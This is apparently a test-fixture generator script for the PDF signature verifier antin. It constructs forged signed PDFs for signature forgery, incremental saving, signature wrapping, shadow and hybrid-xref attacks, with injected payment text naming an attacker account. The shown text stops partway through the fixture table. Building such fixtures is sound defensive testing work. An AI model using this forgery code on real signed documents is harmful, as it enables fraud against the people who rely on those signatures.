#!/usr/bin/env python3
"""Write antin's attack fixtures (fixtures/pdf/attacks/, fixtures/attacks.tsv).

One PDF per attack class of /work/shared/docs/signature-validation.md
(universal signature forgery, incremental saving, signature wrapping, shadow
attacks, certification attacks, object redefinition, hybrid references,
widget off coverage) plus the permitted later updates that must still pass.
fixtures/attacks.md describes every file and what a correct verifier says.

Same ground rules as scripts/make-fixtures.py (whose helpers it imports):
Python 3.11 with the packages pinned in scripts/requirements.txt, only the
test PKI in certs/test-pki/, no network. Output is deterministic: the clock
pyHanko sees is frozen (signing time /M = 2026-11-22T08:01:00Z, later updates
a few minutes after), and the random document IDs and timestamp nonces come
from a generator seeded with the fixture name. RSA PKCS#1 v1.5 signatures
are deterministic, so re-running gives byte-identical files.

Well-formed later updates are written with pyHanko's IncrementalPdfFileWriter
(or pyHanko's signer / DSS / timestamp code); broken ones (stripped xref or
trailer, hybrid xref, wrapped ByteRange) are appended as raw bytes with the
offsets computed here. The USF files edit the signature dictionary of a
validly signed file in place, keeping every length so the xref stays valid.

Usage:
  scripts/make-attack-fixtures.py [--pki DIR] [--out DIR] [--tsv FILE]
  scripts/make-attack-fixtures.py --check [--antin target/debug/antin]
      (re-check the written files with pyHanko's validator and, if given,
      with antin; prints the expected and the actual results per fixture;
      writes nothing)
"""
from __future__ import annotations

import argparse
import datetime as _dt
import hashlib
import importlib.util
import io
import json
import random
import re
import subprocess
import sys
import types
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils import incremental_writer as _iw_mod
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.metadata import info as _info_mod
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, SigSeedSubFilter
from pyhanko.sign.signers import pdf_signer as _pdf_signer_mod
from pyhanko.sign.timestamps import api as _ts_api_mod
from pyhanko.sign.timestamps import dummy_client as _ts_dummy_mod
from pyhanko_certvalidator import ValidationContext

ROOT = Path(__file__).resolve().parent.parent
UTC = _dt.timezone.utc


def _load_make_fixtures():
    spec = importlib.util.spec_from_file_location(
        "make_fixtures", Path(__file__).resolve().parent / "make-fixtures.py"
    )
    mod = importlib.util.module_from_spec(spec)
    sys.modules["make_fixtures"] = mod
    spec.loader.exec_module(mod)
    return mod


mf = _load_make_fixtures()

# Times (all before the reference validation time 2026-11-22T12:00:00Z).
T_SIGN = _dt.datetime(2026, 11, 22, 8, 1, 0, tzinfo=UTC)
T_TSA = _dt.datetime(2026, 11, 22, 8, 2, 0, tzinfo=UTC)
T_SECOND = _dt.datetime(2026, 11, 22, 8, 3, 0, tzinfo=UTC)
T_UPDATE = _dt.datetime(2026, 11, 22, 8, 5, 0, tzinfo=UTC)
T_VALIDATE = _dt.datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
LIC = ["licensed-ca", "root-ca"]

# Page geometry of mf.minimal_pdf(mf.BODY_LINES): 12 pt Helvetica, first
# baseline y=746 (the ' operator moves down 14 pt before each line), four
# lines down to y=704, x from 72 to about 480. Everything below y=690 and the
# margins are empty.


# --------------------------------------------------------------------------
# Determinism: frozen clock and seeded randomness inside pyHanko.
# --------------------------------------------------------------------------
class _Clock:
    now_value = T_SIGN


def _fixed_datetime_class():
    class _Fixed(_dt.datetime):
        @classmethod
        def now(cls, tz=None):
            when = _Clock.now_value
            return when.astimezone(tz) if tz else when.replace(tzinfo=None)

    return _Fixed


@contextmanager
def deterministic(seed: str):
    """Seed pyHanko's document IDs and TSA nonces/serials; freeze its clock."""
    rng = random.Random(hashlib.sha256(seed.encode()).digest())
    fake_os = types.SimpleNamespace(urandom=lambda n: rng.randbytes(n))

    def nonce():
        return int.from_bytes(b"\x01" + rng.randbytes(7), "big")

    fixed = _fixed_datetime_class()
    saved = [
        (_iw_mod, "os", _iw_mod.os),
        (_ts_api_mod, "get_nonce", _ts_api_mod.get_nonce),
        (_ts_dummy_mod, "get_nonce", _ts_dummy_mod.get_nonce),
        (_pdf_signer_mod, "datetime", _pdf_signer_mod.datetime),
        (_info_mod, "datetime", _info_mod.datetime),
    ]
    _iw_mod.os = fake_os
    _ts_api_mod.get_nonce = nonce
    _ts_dummy_mod.get_nonce = nonce
    _pdf_signer_mod.datetime = fixed
    _info_mod.datetime = fixed
    try:
        yield rng
    finally:
        for mod, name, val in saved:
            setattr(mod, name, val)


@contextmanager
def clock(when: _dt.datetime):
    saved = _Clock.now_value
    _Clock.now_value = when
    try:
        yield
    finally:
        _Clock.now_value = saved


# --------------------------------------------------------------------------
# Hand-written PDFs and raw incremental updates
# --------------------------------------------------------------------------
FILE_ID = b"<616e74696e2d746573742d666978747572>"


def stream_obj(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def write_pdf(objs: dict[int, bytes | None], root: int, info: int | None = None) -> bytes:
    """A classic-xref PDF from {number: body}; numbers must be 1..N (None: free entry)."""
    nums = sorted(objs)
    assert nums == list(range(1, len(nums) + 1))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for n in nums:
        if objs[n] is not None:
            offsets[n] = len(out)
            out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(nums) + 1)
    for n in nums:
        out += b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R " % (len(nums) + 1, root)
    if info:
        out += b"/Info %d 0 R " % info
    out += b"/ID [%s %s] >>\nstartxref\n%d\n%%%%EOF\n" % (FILE_ID, FILE_ID, xref)
    return bytes(out)


def text_ops(lines: list[str], x: int = 72, y: int = 760, font: bytes = b"/F1") -> bytes:
    ops = [b"BT %s 12 Tf %d %d Td 14 TL" % (font, x, y)]
    for ln in lines:
        esc = ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(" + esc.encode("ascii") + b") '")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


def pdf_str(s: str) -> bytes:
    return b"(" + s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("ascii") + b")"


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
INFO = b"<< /Title (antin attack fixture) /Producer (antin make-attack-fixtures.py) >>"
PAGE_BOX = b"/MediaBox [0 0 595 842]"


@dataclass
class Tail:
    prev_xref: int
    size: int
    root: int
    info: int | None
    id0: bytes


def tail_info(pdf: bytes) -> Tail:
    m = re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", pdf)
    assert m, "no startxref at the end"
    r = PdfFileReader(io.BytesIO(pdf), strict=False)
    tr = r.trailer
    info = tr.raw_get("/Info").idnum if "/Info" in tr else None
    id0 = tr["/ID"][0].original_bytes if "/ID" in tr else b"antin"
    return Tail(int(m.group(1)), int(tr["/Size"]), tr.raw_get("/Root").idnum, info, id0)


def xref_table(entries: dict[int, int | None]) -> bytes:
    """Classic xref section body ("xref" + subsections) for {num: offset or None=free}."""
    out = bytearray(b"xref\n")
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b"%d %d\n" % (nums[i], j - i + 1)
        for n in nums[i : j + 1]:
            off = entries[n]
            if off is None:
                out += b"0000000000 65535 f \n" if n == 0 else b"0000000000 00001 f \n"
            else:
                out += b"%010d 00000 n \n" % off
        i = j + 1
    return bytes(out)


def trailer_dict(t: Tail, size: int, root: int | None = None, extra: bytes = b"") -> bytes:
    d = b"<< /Size %d /Root %d 0 R " % (size, root or t.root)
    if t.info:
        d += b"/Info %d 0 R " % t.info
    id2 = hashlib.md5(t.id0 + b"%d" % t.prev_xref).hexdigest().encode()
    d += b"/ID [<%s> <%s>] /Prev %d %s>>" % (t.id0.hex().encode(), id2, t.prev_xref, extra)
    return d


def raw_update(
    prev: bytes,
    objs: dict[int, bytes],
    *,
    root: int | None = None,
    with_xref: bool = True,
    with_trailer: bool = True,
    startxref: str = "new",
) -> bytes:
    """Append an incremental update written by hand.

    with_xref=False: no xref section; the trailer (if any) is followed by a
    startxref pointing at the PREVIOUS xref section (startxref='prev') or at
    the update's own trailer keyword (startxref='trailer').
    with_trailer=False: xref section without a trailer dictionary.
    """
    t = tail_info(prev)
    out = bytearray(prev)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int | None] = {}
    for n, body in objs.items():
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    size = max([t.size] + [n + 1 for n in objs])
    xref_at = len(out)
    if with_xref:
        out += xref_table(offsets or {0: None})
    trailer_at = len(out)
    if with_trailer:
        out += b"trailer\n" + trailer_dict(t, size, root) + b"\n"
    if startxref == "trailer":  # points at the trailer keyword: no xref there
        target = trailer_at
    elif with_xref and startxref == "new":
        target = xref_at
    else:
        target = t.prev_xref
    out += b"startxref\n%d\n%%%%EOF\n" % target
    return bytes(out)


# --------------------------------------------------------------------------
# Signing
# --------------------------------------------------------------------------
def validation_context(pki, moment=None) -> ValidationContext:
    crls = [pki.p(n + ".crl").read_bytes() for n in ("root-ca", "licensed-ca")]
    ocsps = [pki.p(n).read_bytes() for n in sorted(x.name for x in pki.d.glob("*.ocsp"))]
    return ValidationContext(
        trust_roots=[pki.cert("root-ca")],
        other_certs=[pki.cert("licensed-ca"), pki.cert("ocsp-responder")],
        crls=crls,
        ocsps=ocsps,
        allow_fetching=False,
        revocation_mode="hard-fail",
        moment=moment,
    )


def sign(
    src: bytes,
    signer,
    field: str = "Signature1",
    *,
    certify: bool = False,
    docmdp: MDPPerm = MDPPerm.FILL_FORMS,
    when: _dt.datetime = T_SIGN,
    new_field: SigFieldSpec | None = None,
    stamp_style=None,
    appearance_text_params=None,
) -> bytes:
    """PAdES B-B (ETSI.CAdES.detached, SHA-256) as make-fixtures.sign does."""
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        subfilter=SigSeedSubFilter.PADES,
        certify=certify,
        docmdp_permissions=docmdp,
        reason="antin test fixture",
        location="Hà Nội",
        signer_key_usage=set(),
    )
    w = IncrementalPdfFileWriter(io.BytesIO(src), strict=False)
    pdf_signer = signers.PdfSigner(
        meta, signer, new_field_spec=new_field, stamp_style=stamp_style
    )
    out = io.BytesIO()
    with clock(when):
        pdf_signer.sign_pdf(w, output=out, appearance_text_params=appearance_text_params)
    return out.getvalue()


def pyhanko_update(src: bytes, edit: Callable[[IncrementalPdfFileWriter], None],
                   when: _dt.datetime = T_UPDATE) -> bytes:
    """A well-formed incremental update written by pyHanko's writer."""
    w = IncrementalPdfFileWriter(io.BytesIO(src), strict=False)
    edit(w)
    out = io.BytesIO()
    with clock(when):
        w.write(out)
    return out.getvalue()


def first_page(w):
    ref = w.root["/Pages"]["/Kids"].raw_get(0)
    return ref, ref.get_object()


def byte_range(pdf: bytes, nth: int = 0) -> list[int]:
    m = list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", pdf))[nth]
    return [int(x) for x in m.groups()]


def replace_same_length(pdf: bytes, start: int, old: bytes, new: bytes) -> bytes:
    assert pdf[start : start + len(old)] == old, (pdf[start : start + 40], old[:40])
    assert len(new) <= len(old)
    new = new + b" " * (len(old) - len(new))
    return pdf[:start] + new + pdf[start + len(old) :]


# --------------------------------------------------------------------------
# Universal signature forgery: in-place edits of a valid signature dictionary
# --------------------------------------------------------------------------
def usf_contents(signed: bytes, kind: str, rng: random.Random) -> bytes:
    a, b = byte_range(signed)[1:3]
    old = signed[a:b]  # "<hex...>"
    assert old[:1] == b"<" and old[-1:] == b">"
    n = len(old) - 2
    if kind == "empty":
        new = b"<>"
    elif kind == "zero":
        new = b"<" + b"0" * n + b">"
    elif kind == "garbage":
        raw = bytearray(rng.randbytes(n // 2))
        raw[0] = 0x04 if raw[0] == 0x30 else raw[0]  # never a DER SEQUENCE
        new = b"<" + raw.hex().upper().encode() + b">"
    else:
        raise ValueError(kind)
    return replace_same_length(signed, a, old, new)


def usf_byterange(signed: bytes, kind: str) -> bytes:
    m = re.search(rb"/ByteRange \[\d+ \d+ \d+ \d+\]", signed)
    old = m.group(0)
    new = {"none": b"", "zero": b"/ByteRange [0 0 0 0]", "null": b"/ByteRange null"}[kind]
    return replace_same_length(signed, m.start(), old, new)


# --------------------------------------------------------------------------
# Incremental saving attack
# --------------------------------------------------------------------------
EVIL_TEXT = b"BT /F1 18 Tf 72 600 Td (PAY 1.000.000.000 VND TO ACCOUNT 999-ATTACKER) Tj ET\n"


def isa_objects(signed: bytes) -> dict[int, bytes]:
    """New page version (content array + a new stream) for the approval file."""
    t = tail_info(signed)
    new = t.size
    page = (
        b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
        + b" /Resources << /Font << /F1 4 0 R >> >> /Contents [5 0 R %d 0 R] /Annots [9 0 R] >>" % new
    )
    return {3: page, new: stream_obj(EVIL_TEXT)}


def isa_content_appended(signed: bytes) -> bytes:
    def edit(w):
        ref, page = first_page(w)
        s = w.add_object(generic.StreamObject(stream_data=EVIL_TEXT))
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), s])
        w.update_container(page)

    return pyhanko_update(signed, edit)


# --------------------------------------------------------------------------
# Signature wrapping
# --------------------------------------------------------------------------
def swa_moved_byterange(signed: bytes) -> bytes:
    """Move the second signed range to the end; unsigned objects in between.

    signed = P1 | <CONTENTS> | P2, with ByteRange [0 a b c] in P2, P2
    ending with "startxref X %%EOF". The wrapped file is
        P1 | <DER> /ByteRange [0 a b' c] ... >> endobj | evil objects |
        padding | new xref (at offset X exactly) + trailer | padding | P2
    so bytes [0,a) + [b',b'+c) are still exactly the signed bytes, the range
    ends at the end of the file, and the (old, signed) startxref X at the end
    now points at the attacker's xref, which maps the page's content stream
    to an unsigned object in the gap.
    """
    _, a, b, c = byte_range(signed)
    p1, contents, p2 = signed[:a], signed[a:b], signed[b : b + c]
    assert b + c == len(signed)
    x = int(re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", p2).group(1))
    # The CMS DER without pyHanko's zero padding (a DER parser needs no more).
    der = bytes.fromhex(contents[1:-1].decode())
    from asn1crypto import cms as _cms

    der = _cms.ContentInfo.load(der, strict=False).dump()
    # Rest of the signature dictionary, as in P2 but with the new ByteRange.
    m = re.match(rb"\n/ByteRange \[[^\]]*\][ ]*\n(.*?>>\nendobj\n)", p2, re.S)
    rest = m.group(1)
    prev = int(re.search(rb"/Prev (\d+)", p2).group(1))
    t = tail_info(signed)

    def build(b2: int) -> bytes:
        out = bytearray(p1)
        out += b"<" + der.hex().upper().encode() + b">\n"
        out += b"/ByteRange [0 %d %d %d]\n" % (a, b2, c)
        out += rest
        evil_at = len(out)
        out += b"5 0 obj\n" + stream_obj(text_ops(["PAY 1.000.000.000 VND TO ACCOUNT 999-ATTACKER"] + mf.BODY_LINES[1:])) + b"\nendobj\n"
        assert len(out) < x, "gap too small for the evil object"
        out += b"%" + b"-" * (x - len(out) - 2) + b"\n"
        assert len(out) == x
        # Same objects as the signed revision's own xref (1,3,6,8,9,10 via
        # the original table) plus 5 -> the evil stream.
        offsets = parse_table(signed, t.prev_xref)
        offsets[5] = evil_at
        out += xref_table(offsets)
        out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
            t.size, t.root, t.info, prev)
        return bytes(out)

    b2 = len(build(0)) + 64
    body = build(b2)
    pad = b2 - len(body)
    assert pad >= 2
    out = body + b"%" + b" " * (pad - 2) + b"\n" + p2
    assert out[:a] + out[b2 : b2 + c] == signed[:a] + signed[b : b + c]
    assert b2 + c == len(out)
    return out


def parse_table(pdf: bytes, at: int) -> dict[int, int | None]:
    """The entries of one classic xref section (offsets or None for free)."""
    assert pdf[at : at + 4] == b"xref"
    pos = at + 5
    out: dict[int, int | None] = {}
    while True:
        m = re.compile(rb"\s*(\d+) (\d+)\r?\n").match(pdf, pos)
        if not m:
            break
        first, count = int(m.group(1)), int(m.group(2))
        pos = m.end()
        for i in range(count):
            row = pdf[pos : pos + 20]
            out[first + i] = int(row[:10]) if row[17:18] == b"n" else None
            pos += 20
    return out


# --------------------------------------------------------------------------
# Hybrid reference file whose table and xref stream disagree
# --------------------------------------------------------------------------
def hybrid_update(signed: bytes, table_lists_5: bool) -> bytes:
    """Update section = classic table + /XRefStm; the stream maps 5 to a new,
    unsigned content stream.

    table_lists_5=True (hybrid-disagree): the table ALSO lists 5, at the
    signed stream's unchanged offset. ISO 32000 7.5.8.4 has readers consult
    the table first (poppler 22.12 and pyHanko 0.38 do), so they show the
    signed text; a reader or verifier that lets the stream win sees the new
    text. The two views of the same revision disagree.
    table_lists_5=False (hybrid-hidden-stream): the table has no entries
    (as in the spec's own hybrid example); 5 exists only in the stream, so
    PDF 1.5+ readers show the new text and a verifier that ignores /XRefStm
    sees an empty update.
    """
    t = tail_info(signed)
    old5 = parse_table(signed, parse_prev_chain_entry(signed, 5))[5]
    out = bytearray(signed)
    evil_at = len(out)
    evil = text_ops(["PAY 1.000.000.000 VND TO ACCOUNT 999-ATTACKER"] + mf.BODY_LINES[1:])
    out += b"5 0 obj\n" + stream_obj(evil) + b"\nendobj\n"
    xs_num = t.size
    xs_at = len(out)
    rows = b"\x01" + evil_at.to_bytes(4, "big") + b"\x00\x00"
    rows += b"\x01" + xs_at.to_bytes(4, "big") + b"\x00\x00"
    out += b"%d 0 obj\n" % xs_num + stream_obj(
        rows,
        b" /Type /XRef /Size %d /W [1 4 2] /Index [5 1 %d 1] /Root %d 0 R" % (xs_num + 1, xs_num, t.root),
    ) + b"\nendobj\n"
    xref_at = len(out)
    out += xref_table({5: old5}) if table_lists_5 else b"xref\n0 0\n"
    out += b"trailer\n" + trailer_dict(t, xs_num + 1, extra=b"/XRefStm %d " % xs_at) + b"\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def parse_prev_chain_entry(pdf: bytes, num: int) -> int:
    """Offset of the newest classic xref section (via /Prev) that lists num."""
    at = tail_info(pdf).prev_xref
    while True:
        if num in parse_table(pdf, at):
            return at
        tr = pdf[at : pdf.index(b"startxref", at)]
        m = re.search(rb"/Prev (\d+)", tr)
        assert m, f"object {num} not found"
        at = int(m.group(1))


# --------------------------------------------------------------------------
# Base documents for shadow, certification and widget attacks
# --------------------------------------------------------------------------
SHADOW_LINES = [
    "antin test fixture - shadow attack base",
    "Hop dong mua ban (test document, not a real contract).",
    "Ben mua: Nguyen Van An - CCCD 001099012345",
]


def shadow_hide_base() -> bytes:
    """Page draws hidden text, then an opaque overlay XObject on top of it."""
    hidden = b"BT /F1 12 Tf 72 650 Td (Amount due: 900.000.000 VND, pay to account 999-ATTACKER) Tj ET\n"
    overlay = b"1 1 1 rg 0 0 480 24 re f\nBT 0 g /F1 12 Tf 2 7 Td (Amount due: 9.000 VND) Tj ET\n"
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R >> /XObject << /Ov 7 0 R >> >>"
            b" /Contents [5 0 R 8 0 R] >>",
            4: HELVETICA,
            5: stream_obj(text_ops(SHADOW_LINES) + hidden),
            6: INFO,
            7: stream_obj(overlay, b" /Type /XObject /Subtype /Form /BBox [0 0 480 24]"
                          b" /Resources << /Font << /F1 4 0 R >> >>"),
            8: stream_obj(b"q 1 0 0 1 70 643 cm /Ov Do Q\n"),
        },
        root=1,
        info=6,
    )


def shadow_replace_base() -> bytes:
    """Amount drawn with /F2; an unused font (8) maps '1' to the glyph 'nine'."""
    amount = b"BT /F2 12 Tf 72 650 Td (Amount due: 1.000.000 VND) Tj ET\n"
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R /F2 7 0 R >> >> /Contents 5 0 R >>",
            4: HELVETICA,
            5: stream_obj(text_ops(SHADOW_LINES) + amount),
            6: INFO,
            7: HELVETICA,
            8: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding"
            b" << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>",
        },
        root=1,
        info=6,
    )


def shadow_catalog_base() -> bytes:
    """A second, unused catalog (8) with its own page tree; both share AcroForm 7."""
    shadow = text_ops(["antin test fixture - shadow attack base",
                       "Hop dong mua ban (test document, not a real contract).",
                       "Ben mua: Nguyen Van An - CCCD 001099012345",
                       "Amount due: 900.000.000 VND, pay to account 999-ATTACKER"])
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            4: HELVETICA,
            5: stream_obj(text_ops(SHADOW_LINES + ["Amount due: 9.000 VND"])),
            6: INFO,
            7: b"<< /Fields [] >>",
            8: b"<< /Type /Catalog /Pages 9 0 R /AcroForm 7 0 R >>",
            9: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
            10: b"<< /Type /Page /Parent 9 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R >> >> /Contents 11 0 R >>",
            11: stream_obj(shadow),
        },
        root=1,
        info=6,
    )


FIELD_RECT = (72, 600, 372, 624)


def form_base() -> bytes:
    """mf's page plus an AcroForm with one empty text field HoTen below the text."""
    x1, y1, x2, y2 = FIELD_RECT
    w, h = x2 - x1, y2 - y1
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [8 0 R] >>",
            4: HELVETICA,
            5: stream_obj(text_ops(mf.BODY_LINES + ["Ho ten nguoi nhan (dien vao o duoi):"])),
            6: INFO,
            7: b"<< /Fields [8 0 R] /DR << /Font << /Helv 4 0 R >> >> /DA (/Helv 12 Tf 0 g) >>",
            8: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (HoTen) /F 4 /P 3 0 R"
            b" /Rect [%d %d %d %d] /DA (/Helv 12 Tf 0 g) /MK << /BC [0 0 0] >>"
            b" /AP << /N 9 0 R >> >>" % FIELD_RECT,
            9: stream_obj(b"0 g 0.5 0.5 %d %d re s\n" % (w - 1, h - 1),
                          b" /Type /XObject /Subtype /Form /BBox [0 0 %d %d]" % (w, h)),
        },
        root=1,
        info=6,
    )


def fill_form(certified: bytes, value: str = "Nguyen Van An") -> bytes:
    x1, y1, x2, y2 = FIELD_RECT
    w, h = x2 - x1, y2 - y1

    def edit(wr):
        fld = wr.root["/AcroForm"]["/Fields"][0].get_object()
        fld["/V"] = generic.TextStringObject(value)
        ap = generic.StreamObject(
            {
                "/Type": generic.NameObject("/XObject"),
                "/Subtype": generic.NameObject("/Form"),
                "/BBox": generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, w, h)]),
                "/Resources": generic.DictionaryObject({
                    "/Font": generic.DictionaryObject({"/Helv": generic.IndirectObject(4, 0, wr)})
                }),
            },
            stream_data=b"0 g 0.5 0.5 %d %d re s\n/Tx BMC q BT /Helv 12 Tf 0 g 4 7 Td %s Tj ET Q EMC\n"
            % (w - 1, h - 1, pdf_str(value)),
        )
        fld["/AP"] = generic.DictionaryObject({"/N": wr.add_object(ap)})
        wr.update_container(fld)

    return pyhanko_update(certified, edit)


def annotation_update(signed: bytes, subtype: str, rect: tuple[int, int, int, int],
                      ap: bytes | None, contents: str) -> bytes:
    """Add one annotation (with an optional normal appearance) to page 1."""
    x1, y1, x2, y2 = rect

    def edit(w):
        page_ref, page = first_page(w)
        annot = generic.DictionaryObject({
            "/Type": generic.NameObject("/Annot"),
            "/Subtype": generic.NameObject(subtype),
            "/Rect": generic.ArrayObject([generic.NumberObject(v) for v in rect]),
            "/Contents": generic.TextStringObject(contents),
            "/F": generic.NumberObject(4),
            "/P": page_ref,
            "/M": generic.pdf_date(T_UPDATE),
            "/T": generic.TextStringObject("Attacker"),
        })
        if subtype == "/FreeText":
            annot["/DA"] = generic.TextStringObject("/Helv 12 Tf 0 g")
        if subtype == "/Text":
            annot["/Name"] = generic.NameObject("/Comment")
            annot["/Open"] = generic.BooleanObject(False)
        if ap is not None:
            stm = generic.StreamObject(
                {
                    "/Type": generic.NameObject("/XObject"),
                    "/Subtype": generic.NameObject("/Form"),
                    "/BBox": generic.ArrayObject(
                        [generic.NumberObject(v) for v in (0, 0, x2 - x1, y2 - y1)]),
                    "/Resources": generic.DictionaryObject({
                        "/Font": generic.DictionaryObject({"/F1": generic.IndirectObject(4, 0, w)})
                    }),
                },
                stream_data=ap,
            )
            annot["/AP"] = generic.DictionaryObject({"/N": w.add_object(stm)})
        ref = w.add_object(annot)
        annots = page.get("/Annots")
        arr = generic.ArrayObject(list(annots) if annots is not None else [])
        arr.append(ref)
        page["/Annots"] = arr
        w.update_container(page)

    return pyhanko_update(signed, edit)


# Covers the first text line (baseline 746) of mf's page.
COVER_RECT = (68, 740, 500, 760)
COVER_AP = (b"1 1 1 rg 0 0 432 20 re f\n"
            b"BT 0 g /F1 12 Tf 4 6 Td (antin test fixture - AMOUNT DUE 900.000.000 VND) Tj ET\n")


def widget_base() -> bytes:
    """mf's page plus an empty visible signature field whose widget /P is 8 0 R,
    an object number that the signed revision does not define (pyHanko signs
    into the existing field and keeps /P). A later update makes 8 a page."""
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + PAGE_BOX
            + b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            4: HELVETICA,
            5: stream_obj(text_ops(mf.BODY_LINES)),
            6: INFO,
            7: b"<< /Fields [9 0 R] >>",
            8: None,  # free: the page added after signing
            9: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /F 132"
            b" /Rect [72 500 272 560] /P 8 0 R >>",
        },
        root=1,
        info=6,
    )


# --------------------------------------------------------------------------
# Fixture table
# --------------------------------------------------------------------------
@dataclass
class Fx:
    file: str
    cls: str
    verdict: str
    sub: str
    finding: str
    desc: str


FIXTURES: list[Fx] = [
    Fx("usf-empty-contents.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "signed-approval with /Contents <> (rest of the old hex string blanked with spaces); no SignedData"),
    Fx("usf-zero-contents.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "/Contents hex string all zeros (same length); not a SignedData"),
    Fx("usf-garbage-contents.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "/Contents filled with seeded random bytes (first byte not 0x30); not DER"),
    Fx("usf-no-byterange.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "/ByteRange key and value overwritten with spaces; the CMS is intact but nothing says what it covers"),
    Fx("usf-zero-byterange.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "/ByteRange [0 0 0 0]; not [0 a b c] around /Contents (a verifier that hashes it anyway gets HASH_FAILURE)"),
    Fx("usf-null-byterange.pdf", "USF", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "/ByteRange null (wrong type)"),
    Fx("isa-content-appended.pdf", "ISA", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed-approval + pyHanko update: page /Contents [5 0 R <new stream>] adds 'PAY ... TO ATTACKER'; normal xref"),
    Fx("isa-stripped-xref.pdf", "ISA", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "same new page + stream appended with a trailer but NO xref section; startxref points at the signed revision's xref"),
    Fx("isa-broken-startxref.pdf", "ISA", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "same new page + stream and a trailer, NO xref section, startxref points at the update's trailer keyword: readers rebuild the xref and show the new page (a verifier that rejects the unreadable file is safe but gives no verdict)"),
    Fx("isa-stripped-trailer.pdf", "ISA", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "same new page + stream and an xref table for them, but NO trailer dictionary; startxref points at the new table: readers rebuild the xref and show the new page (a verifier that rejects the unreadable file is safe but gives no verdict)"),
    Fx("swa-moved-byterange.pdf", "SWA", "TOTAL_FAILED", "FORMAT_FAILURE", "NONE",
       "second signed range moved to the end of the file, gap holds an unsigned content stream 5 and a new xref at the old startxref offset; ByteRange [0 a b' c] still covers the original bytes and ends at EOF, but the gap is larger than /Contents"),
    Fx("shadow-hide.pdf", "shadow-hide", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
       "signed page draws hidden text then an opaque overlay XObject over it; update sets page /Contents 5 0 R (drops the overlay) and reveals the text"),
    Fx("shadow-replace.pdf", "shadow-replace", "TOTAL_FAILED", "MODIFIED_AFTER_SIGNING", "DISALLOWED",
